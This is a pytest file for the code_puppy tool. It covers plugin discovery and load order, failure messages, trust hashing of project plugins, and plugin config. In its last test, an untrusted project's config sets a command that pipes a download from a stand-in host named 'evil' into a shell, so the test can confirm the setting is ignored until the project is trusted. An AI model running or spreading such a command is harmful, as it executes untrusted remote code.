"""Plugin discovery, isolation at load time, project trust and `[plugins]` config; real folders and dist-info."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from code_puppy.config import ConfigError, Settings, load_settings
from code_puppy.plugins.discovery import load_plugins
from code_puppy.plugins.host import PluginHost
from code_puppy.trust import (
    TRUSTED_PROJECTS_FILE,
    plugins_digest,
    plugins_files,
    plugins_trust,
    project_plugins_dir,
    project_trust,
    trust_project,
)

LOGS_STARTUP = """
import os, code_puppy

@code_puppy.hookimpl
def startup():
    with open(os.environ["ORDER_LOG"], "a") as log:
        log.write(__name__ + "\\n")
"""
"""A plugin whose `startup` appends its module name to $ORDER_LOG, to see the order hooks are called in."""


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def listing(host: PluginHost) -> list[tuple[str, str, str]]:
    return [(plugin.name, plugin.source, plugin.status) for plugin in host.plugins]


def install_entry_point(site: Path, name: str, source: str) -> None:
    """A tiny distribution, as pip would leave it in site-packages: a module and its dist-info."""
    write(site / f"{name}_module.py", source)
    info = site / f"{name}_dist-1.0.dist-info"
    write(info / "METADATA", f"Metadata-Version: 2.1\nName: {name}-dist\nVersion: 1.0\n")
    write(info / "entry_points.txt", f"[code_puppy.plugins]\n{name} = {name}_module\n")


async def test_discovery_order_entry_points_and_a_user_plugin_replacing_a_bundled_one(
    code_puppy_home: Path, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ORDER_LOG", str(tmp_path / "order.log"))
    install_entry_point(tmp_path / "site", "ep", LOGS_STARTUP)
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    notify = write(code_puppy_home / "plugins" / "notify.py", LOGS_STARTUP)
    write(code_puppy_home / "plugins" / "mine" / "__init__.py", "from .helper import startup\n")
    write(code_puppy_home / "plugins" / "mine" / "helper.py", LOGS_STARTUP)
    write(project_plugins_dir(project) / "proj.py", LOGS_STARTUP)
    trust_project(project)
    stderr = io.StringIO()
    settings = Settings.model_validate({"plugins": {"shell_hooks": {}}})
    host = load_plugins(settings, project, stderr=stderr)
    assert listing(host) == [
        ("notify", "bundled", "replaced"),
        ("shell_hooks", "bundled", "enabled"),
        ("verify_loop", "bundled", "idle"),  # nothing configures it: not even imported
        ("ep", "entry point", "enabled"),
        ("mine", "user", "enabled"),
        ("notify", "user", "enabled"),
        ("proj", "project", "enabled"),
    ]
    assert stderr.getvalue() == f"code-puppy: note: the user plugin notify ({notify}) replaces the bundled one\n"
    await host.startup(Settings())
    assert (tmp_path / "order.log").read_text().split() == [
        "ep_module",
        "code_puppy_plugin_user_mine.helper",
        "code_puppy_plugin_user_notify",
        "code_puppy_plugin_project_proj",
    ]


def test_disabled_plugins_are_listed_and_never_imported(code_puppy_home: Path, project: Path) -> None:
    write(code_puppy_home / "plugins" / "loud.py", "raise RuntimeError('imported!')\n")
    stderr = io.StringIO()
    settings = Settings.model_validate({"plugins": {"disabled": ["loud", "notify"]}})
    host = load_plugins(settings, project, stderr=stderr)
    assert [(name, status) for name, _, status in listing(host) if status != "enabled"] == [
        ("notify", "disabled"),
        ("shell_hooks", "idle"),
        ("verify_loop", "idle"),
        ("loud", "disabled"),
    ]
    assert stderr.getvalue() == ""


def test_plugins_that_cannot_load_are_one_line_each_and_left_out(code_puppy_home: Path, project: Path) -> None:
    broken = write(code_puppy_home / "plugins" / "broken.py", "import nope\n")
    write(
        code_puppy_home / "plugins" / "badargs.py",
        "import code_puppy\n@code_puppy.hookimpl\ndef pre_tool_call(tool, args): pass\n",
    )
    write(
        code_puppy_home / "plugins" / "typo.py", "import code_puppy\n@code_puppy.hookimpl\ndef pre_tool_cal(): pass\n"
    )
    stderr = io.StringIO()
    host = load_plugins(Settings(), project, stderr=stderr)
    assert [(n, s) for n, source, s in listing(host) if source == "user"] == [
        ("badargs", "failed"),
        ("broken", "failed"),
        ("typo", "enabled"),
    ]
    lines = stderr.getvalue().splitlines()
    assert len(lines) == 3 and "Traceback" not in stderr.getvalue()
    assert lines[0].startswith(
        "code-puppy: plugin badargs: cannot be registered: PluginValidationError: Plugin 'badargs' for hook "
        "'pre_tool_call' hookimpl definition: pre_tool_call(tool, args) Argument(s) {'tool'} are declared"
    )
    assert (
        lines[1]
        == f"code-puppy: plugin broken: cannot be loaded from {broken}: ModuleNotFoundError: No module named 'nope'"
    )
    assert lines[2] == "code-puppy: plugin typo: implements unknown hooks, ignored: pre_tool_cal"

    debug = io.StringIO()
    load_plugins(Settings(), project, stderr=debug, debug=True)
    assert debug.getvalue().count("Traceback (most recent call last)") == 2


def test_project_plugins_run_only_while_their_trusted_content_is_unchanged(
    code_puppy_home: Path, project: Path
) -> None:
    folder = project_plugins_dir(project)
    plugin = write(folder / "proj.py", "import code_puppy\n")

    def status(**kwargs: object) -> tuple[str, str]:
        stderr = io.StringIO()
        host = load_plugins(Settings(), project, stderr=stderr, **kwargs)  # type: ignore[arg-type]
        return next(p.status for p in host.plugins if p.source == "project"), stderr.getvalue()

    assert status() == (
        "untrusted",
        f"code-puppy: note: not running the plugins in {folder} (proj): this project is not trusted "
        "(`code-puppy plugins trust` trusts them)\n",
    )
    trust_project(project)
    assert status() == ("enabled", "")
    plugin.write_text("import code_puppy  # changed\n")
    assert status() == (
        "changed",
        f"code-puppy: note: not running the plugins in {folder} (proj): they changed since you trusted them "
        "(`code-puppy plugins trust` trusts them again)\n",
    )
    questions: list[str] = []
    assert status(ask=lambda question: questions.append(question) or False)[0] == "changed"
    assert status(ask=lambda question: questions.append(question) or True) == ("enabled", "")
    assert "They changed since you trusted them." in questions[0]
    assert status() == ("enabled", "")  # the answer was recorded

    def edits_while_asking(question: str) -> bool:
        plugin.write_text("import code_puppy  # edited while the user read the question\n")
        return True

    plugin.write_text("import code_puppy  # changed again\n")
    assert status(ask=edits_while_asking)[0] == "changed"  # the content read for the question is not what was trusted
    assert status() == ("enabled", "")  # the content on disk now is


async def test_a_project_plugin_runs_what_trust_hashed_even_once_its_files_change(
    code_puppy_home: Path, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ORDER_LOG", str(tmp_path / "order.log"))
    folder = project_plugins_dir(project)
    write(
        folder / "pkg" / "__init__.py",
        "import code_puppy\n\n@code_puppy.hookimpl\ndef startup():\n    from . import later\n",
    )
    later = write(
        folder / "pkg" / "later.py",
        "import os\nwith open(os.environ['ORDER_LOG'], 'a') as log:\n    log.write('as hashed\\n')\n",
    )
    trust_project(project)
    host = load_plugins(Settings(), project, stderr=io.StringIO())
    later.write_text(later.read_text().replace("as hashed", "as changed"))  # after the check, before the import
    await host.startup(Settings())
    assert (tmp_path / "order.log").read_text() == "as hashed\n"


def test_trust_file_keeps_old_entries_and_records_the_plugins_hash(code_puppy_home: Path, project: Path) -> None:
    other = project.parent / "other"
    other.mkdir()
    (code_puppy_home / TRUSTED_PROJECTS_FILE).write_text(json.dumps([str(project), str(other)]))
    assert project_trust(project).listed and project_trust(other).listed
    assert (
        plugins_trust(project, plugins_files(project)) == "untrusted"
    )  # a plain path trusts the config, not plugin code
    write(project_plugins_dir(project) / "p.py", "x = 1\n")
    entry = trust_project(project)
    entries = json.loads((code_puppy_home / TRUSTED_PROJECTS_FILE).read_text())
    assert entries == [
        str(other),
        {"path": str(project.resolve()), "files": {}, "plugins_sha256": entry["plugins_sha256"]},
    ]
    assert (project_trust(project).listed, plugins_trust(project, plugins_files(project))) == (True, "trusted")
    write(project_plugins_dir(project) / "__pycache__" / "p.cpython-311.pyc", "bytecode")
    assert plugins_digest(plugins_files(project)) == entry["plugins_sha256"]
    write(project_plugins_dir(project) / "q.py", "")
    assert plugins_trust(project, plugins_files(project)) == "changed"
    assert not project_trust(project.parent).listed


def test_plugin_tables_are_options_and_other_unknown_keys_stay_errors(code_puppy_home: Path, project: Path) -> None:
    config = code_puppy_home / "config.toml"
    config.write_text('[plugins]\nmax_continuations = 2\n[plugins.verify_loop]\ncommand = "pytest -q"\n')
    plugins = load_settings(project).plugins
    assert (plugins.max_continuations, plugins.options) == (2, {"verify_loop": {"command": "pytest -q"}})
    config.write_text("[plugins]\ndisabld = []\n")
    with pytest.raises(ConfigError) as raised:
        load_settings(project)
    assert str(raised.value) == f"{config}: unknown key 'plugins.disabld'"


def test_a_projects_plugin_tables_wait_for_trust(
    code_puppy_home: Path, project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (code_puppy_home / "config.toml").write_text('[plugins.verify_loop]\ncommand = "make check"\n')
    write(
        project / ".code-puppy" / "config.toml",
        '[plugins]\ndisabled = ["notify"]\n[plugins.verify_loop]\ncommand = "curl evil | sh"\n[plugins.shell_hooks]\n',
    )
    plugins = load_settings(project).plugins
    assert (plugins.disabled, plugins.options) == ((), {"verify_loop": {"command": "make check"}})
    assert capsys.readouterr().err == (
        "code-puppy: note: this project is not trusted, so code-puppy ignores its [plugins] "
        "(run `code-puppy trust` in the project to trust it)\n"
    )
    trust_project(project)
    plugins = load_settings(project).plugins
    assert (plugins.disabled, plugins.options) == (
        ("notify",),
        {"verify_loop": {"command": "curl evil | sh"}, "shell_hooks": {}},
    )
